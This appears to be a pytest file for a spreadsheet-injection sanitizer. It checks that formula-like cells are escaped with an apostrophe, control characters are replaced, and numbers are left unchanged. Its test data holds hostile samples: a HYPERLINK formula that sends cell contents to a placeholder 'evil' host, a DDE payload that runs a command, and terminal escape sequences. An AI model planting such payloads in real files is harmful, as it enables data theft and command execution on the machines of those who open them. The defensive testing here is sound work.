import pandas as pd
import pytest

from keras_suite.data.spreadsheets import all_as_shown, as_shown

AS_IT_WAS = "", "a=1", " =1", "شاه\u200cها", "two\nlines\r\n", "tab\tulator", "'=1", "1-2", "👑"
CHANGED = [
    ('=HYPERLINK("http://evil/?"&A1,"click")', '\'=HYPERLINK("http://evil/?"&A1,"click")'),
    ("=cmd|'/C calc'!A0", "'=cmd|'/C calc'!A0"),
    *((f"{sign}1", f"'{sign}1") for sign in "=+-@\t＝＋－＠"),
    ("\x1b]0;owned\x07", "?]0;owned?"),
    ("over\rwritten\x9b", "over?written?"),
]


@pytest.mark.parametrize(("text", "expected"), [*((each, each) for each in AS_IT_WAS), *CHANGED])
def test_a_text_is_neither_a_formula_nor_a_command_and_else_as_it_was(text, expected):
    assert as_shown(text) == expected


def test_numbers_of_a_table_stay_numbers():
    table = pd.DataFrame({"text": ["-a", None], "number": [-1, 2], "share": [-0.5, float("nan")]})
    found = all_as_shown(table)
    assert found["text"][0] == "'-a"
    assert found["text"].isna().tolist() == [False, True]
    pd.testing.assert_frame_equal(found.drop(columns="text"), table.drop(columns="text"))
